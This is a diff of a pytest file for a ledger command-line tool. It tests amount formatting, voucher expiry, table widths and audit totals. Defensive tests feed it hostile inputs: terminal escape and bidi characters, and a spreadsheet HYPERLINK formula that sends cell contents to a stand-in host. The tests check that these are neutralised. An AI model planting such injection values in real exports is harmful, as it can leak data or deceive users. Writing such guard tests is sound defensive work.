@@ -1,15 +1,24 @@
 """What is shown: on a terminal and elsewhere, and that text from the log can't steer a terminal."""
 
+import csv
+import fcntl
+import io
 import os
 import pty
+import re
+import struct
 import subprocess
+import termios
 from pathlib import Path
+from typing import Any
+from unittest import mock
 
 import pytest
+from rich.cells import cell_len
 
 from support.command_line import Desk, done, finish, run, start
 from tallystick import keyfiles
-from tallystick.cli import output
+from tallystick.printing.text import gpu_hours, one_line, yuan
 
 HOSTILE = "[bold]free[/bold] \u202e100 \u2028 :smile: \ufeff"
 
@@ -45,16 +54,16 @@ def read_all(master: int) -> str:
 
 
 @pytest.mark.parametrize(
-    ("fen", "yuan"), [(0, "0.00"), (5, "0.05"), (-5, "-0.05"), (123_456_789, "1,234,567.89"), (-100, "-1.00")]
+    ("fen", "shown"), [(0, "0.00"), (5, "0.05"), (-5, "-0.05"), (123_456_789, "1,234,567.89"), (-100, "-1.00")]
 )
-def test_amounts_are_shown_to_the_fen(fen: int, yuan: str) -> None:
+def test_amounts_are_shown_to_the_fen(fen: int, shown: str) -> None:
     """Without a float on the way."""
-    assert output.yuan(fen) == yuan
+    assert yuan(fen) == shown
 
 
 def test_gpu_time_is_shown_in_hours_cut_off_after_three_decimals() -> None:
     """One GPU for an hour is 3,600,000 GPU-milliseconds."""
-    assert [output.gpu_hours(time) for time in (3_600_000, 3_599_999, 12_345_678_000)] == [
+    assert [gpu_hours(time) for time in (3_600_000, 3_599_999, 12_345_678_000)] == [
         "1.000",
         "0.999",
         "3,429.355",
@@ -63,9 +72,9 @@ def test_gpu_time_is_shown_in_hours_cut_off_after_three_decimals() -> None:
 
 def test_a_line_is_one_line() -> None:
     """Whatever is in it."""
-    said = output.one_line("a\nb\x1b[31mc\u202ed\x00")
+    said = one_line("a\nb\x1b[31mc\u202ed\x00")
     assert said == "a b\\u001b[31mc\\u202ed\\u0000"
-    assert output.one_line("上海 – Gui’an") == "上海 – Gui’an"
+    assert one_line("上海 – Gui’an") == "上海 – Gui’an"
 
 
 def test_names_from_the_log_can_not_steer_a_terminal(made: Desk) -> None:
@@ -75,6 +84,132 @@ def test_names_from_the_log_can_not_steer_a_terminal(made: Desk) -> None:
         assert ":smile:" in shown
         assert "\\u202e" in shown
         assert not {"\u202e", "\u2028", "\ufeff", "\x1b"} & set(shown)
+
+
+@pytest.mark.parametrize("by", ["programme", "holder", "provider", "voucher"])
+def test_a_csv_of_nothing_has_a_byte_order_mark_and_its_heading(by: str, tmp_path: Path) -> None:
+    """The heading that it has when there are rows."""
+    desk = Desk(tmp_path)
+    desk.found()
+    empty = run("balances", desk.ledger, "--by", by, "--at", "0", "--csv").out
+    assert empty.startswith(f"\ufeff{by},")
+    assert empty.count("\n") == 1
+    assert done("balances", desk.ledger, "--by", by, "--csv").startswith(empty)
+
+
+def test_names_from_the_log_can_not_steer_a_spreadsheet(tmp_path: Path) -> None:
+    """What begins as a formula is guarded, and what isn't printed is spelled out; numbers stay as they are."""
+    desk = Desk(tmp_path)
+    desk.found()
+    names = {"formula": '=HYPERLINK("http://x.example/?a="&A2,"see")', "plus": "+1", "minus": "-1", "at": "@x"}
+    names |= {"bidi": "a\u202eb", "wide": "＝1", "plain": "贵安智算中心"}
+    for party, name in names.items():
+        keys = [desk.vkey(f"{party}/desk")]
+        desk.do("party.admit", "shanghai-treasury", admitted=party, role="holder", name=name, maker=True, keys=keys)
+    written = done("balances", desk.ledger, "--by", "holder", "--csv").removeprefix("\ufeff")
+    rows = {row["holder"]: row for row in csv.DictReader(io.StringIO(written, newline=""))}
+    guarded = {party: f"'{name}" for party, name in names.items() if party not in ("bidi", "plain")}
+    assert {party: rows[party]["name"] for party in names} == names | guarded | {"bidi": "a\\u202eb"}
+    assert all(row["available_fen"] == "0" for row in rows.values())
+
+
+def test_a_voucher_past_its_validity_is_over(tmp_path: Path) -> None:
+    """By the log's time of the last entry, now and as of then; what it has can't be reserved any more."""
+    desk = Desk(tmp_path)
+    desk.found()
+    desk.open_programme()
+    later: dict[str, Any] = {"programme": "shanghai-treasury/compute-2026", "holder": "acme-ai", "face_fen": 5_000}
+    until = "2026-12-31T00:00:00.000000Z"
+    desk.do("voucher.issue", "shanghai-treasury", voucher="shanghai-treasury/v-2", valid_from=until, **later)
+    shown = done("show", desk.ledger, "voucher", "shanghai-treasury/v-2")
+    assert "not_yet_valid" in shown
+    before = desk.size - 1
+    desk.at = "2027-01-05T08:00:00Z"
+    desk.do("party.suspend", "shanghai-treasury", subject="acme-ai", reason="r")
+
+    def statuses(*at: object) -> list[str]:
+        rows = run("balances", desk.ledger, "--by", "voucher", "--json", *at).json["balances"]
+        return [row["status"] for row in rows]
+
+    assert statuses() == ["over", "active"]
+    assert statuses("--at", before) == ["active", "not_yet_valid"]
+    assert statuses("--at", "2027-01-05T07:59:59Z") == ["active", "not_yet_valid"]
+    for by in ("programme", "holder"):
+        (row,) = run("balances", desk.ledger, "--by", by, "--json").json["balances"]
+        assert (row["available_fen"], row["over_fen"]) == (149_005_000, 149_000_000)
+        (row,) = run("balances", desk.ledger, "--by", by, "--json", "--at", before).json["balances"]
+        assert (row["available_fen"], row["over_fen"]) == (149_005_000, 0)
+    shown = done("show", desk.ledger, "programme", "shanghai-treasury/compute-2026")
+    assert "of it over  1,490,000.00" in shown
+
+
+def on_a_terminal(columns: int, *arguments: object) -> str:
+    """Return what a command shows on a terminal that is so wide."""
+    master, slave = pty.openpty()
+    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 24, columns, 0, 0))
+    process = start(*arguments, stdout=slave, env_more={"TERM": "xterm"})
+    os.close(slave)
+    shown = read_all(master)
+    assert (process.communicate(timeout=60)[1], process.returncode) == ("", 0)
+    return shown.replace("\r\n", "\n")
+
+
+AMOUNT = re.compile(r"-?\d[\d,]*\.\d\d\d?")
+
+
+@pytest.mark.parametrize("columns", [60, 80, 120, 207])
+def test_tables_fit_a_terminal_and_no_number_breaks(columns: int, made: Desk) -> None:
+    """Whatever is asked: the same figures as in a file, where lines are as long as need be."""
+    commands = [
+        *[("balances", made.ledger, "--by", by) for by in ("programme", "holder", "provider", "voucher")],
+        ("show", made.ledger, "voucher", "shanghai-treasury/v-1"),
+        ("show", made.ledger, "programme", "shanghai-treasury/compute-2026"),
+        ("audit", made.ledger, "--trust", made.policy),
+    ]
+    for command in commands[:1] if columns == 60 else commands[-1:]:  # real terminals take a process each
+        shown = on_a_terminal(columns, *command)
+        assert max(map(cell_len, shown.splitlines())) <= columns
+        assert sorted(AMOUNT.findall(shown)) == sorted(AMOUNT.findall(done(*command)))
+    for command in commands:
+        with mock.patch.dict(os.environ, COLUMNS=str(columns)):
+            shown = done(*command)
+            wide = done(*command, "--wide")
+        assert max(map(cell_len, shown.splitlines())) <= columns
+        assert sorted(AMOUNT.findall(shown)) == sorted(AMOUNT.findall(done(*command)))
+        assert body(wide) == body(done(*command))
+
+
+def body(shown: str) -> list[str]:
+    """A page's lines but the titles, which are folded where the page is narrow."""
+    return [line for line in shown.splitlines() if "  " in line]
+
+
+def test_the_audit_s_page_adds_up(tmp_path: Path) -> None:
+    """What was issued is somewhere, a voucher that was revoked too; one word has one meaning."""
+    desk = Desk(tmp_path)
+    desk.found()
+    desk.open_programme()
+    desk.do("voucher.revoke", "shanghai-treasury", voucher="shanghai-treasury/v-1", reason="r")
+    shown = done("audit", desk.ledger, "--trust", desk.policy)
+    rows = {line.split()[0]: line.split()[-1] for line in shown.splitlines() if AMOUNT.search(line)}
+    amounts = {name: int(re.sub(r"\D", "", rows[name])) for name in rows if AMOUNT.fullmatch(rows[name])}
+    assert amounts["revoked"] == 149_000_000
+    parts = ("available", "reserved", "burned", "lapsed", "revoked")
+    assert sum(amounts[part] for part in parts) == amounts["together"] == amounts["issued"] == 150_000_000
+    heading = next(line for line in shown.splitlines() if line.startswith("programme"))
+    assert heading.split() == [
+        *("programme", "envelope", "unissued", "available", "reserved", "unclaimed", "claimed", "paid", "adds", "up")
+    ]
+
+
+@pytest.mark.parametrize("term", ["dumb", "unknown"])
+def test_a_terminal_that_can_not_draw_over_gets_no_bar(term: str, made: Desk) -> None:
+    """Nor half of one."""
+    master, slave = pty.openpty()
+    process = start("audit", made.ledger, "--trust", made.policy, stderr=slave, env_more={"TERM": term})
+    os.close(slave)
+    process.communicate(timeout=60)
+    assert (process.returncode, read_all(master)) == (0, "")
 
 
 def test_json_keeps_them_as_they_are(made: Desk) -> None:
